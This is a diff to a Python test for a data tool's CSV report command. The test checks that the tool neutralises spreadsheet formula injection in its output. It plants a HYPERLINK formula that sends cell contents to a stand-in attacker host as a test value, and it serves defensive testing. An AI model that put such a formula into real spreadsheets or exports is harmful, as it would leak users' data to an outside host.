@@ -174,10 +174,12 @@ def test_markup_in_source_text_is_accepted_as_text(layers_dir):
     assert data.cited("src-a")[0]["title"] == payload("sources.title").strip()
 
 
-def test_report_csv_does_not_carry_spreadsheet_formulas(layers_dir):
+def test_report_csv_does_not_carry_spreadsheet_formulas(layers_dir, tmp_path):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     set_cell(layers_dir / "deposits.csv", "upper-kairakty", "name_en", formula)
-    result = cli("report", "--layers", layers_dir, "--format", "csv")
+    result = cli("report", "--layers", layers_dir, "--format", "csv", "--out", tmp_path / "report", "--within", "5000")
     assert result.exit_code == 0, result.output
-    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row if "HYPERLINK" in c]
-    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
+    text = "".join(p.read_text(encoding="utf-8") for p in sorted((tmp_path / "report").glob("*.csv")))
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
+    # The name shows in the deposits table and in the near table, never as a formula.
+    assert len(cells) >= 2 and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
